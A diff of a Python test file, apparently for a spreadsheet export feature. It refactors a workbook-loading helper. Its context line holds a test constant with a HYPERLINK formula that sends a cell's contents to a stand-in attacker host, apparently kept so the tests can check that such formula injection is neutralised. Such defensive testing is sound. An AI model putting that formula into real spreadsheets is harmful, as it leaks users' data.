@@ -11,7 +11,12 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
 def workbook(response):
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    return load_workbook(io.BytesIO(response.getvalue()))
+    return workbook_bytes(response.getvalue())
+
+
+def workbook_bytes(content: bytes):
+    """A workbook from its bytes (a file a browser downloaded, a service's output)."""
+    return load_workbook(io.BytesIO(content))
 
 
 def assert_evil_is_text(response, evil=EVIL):
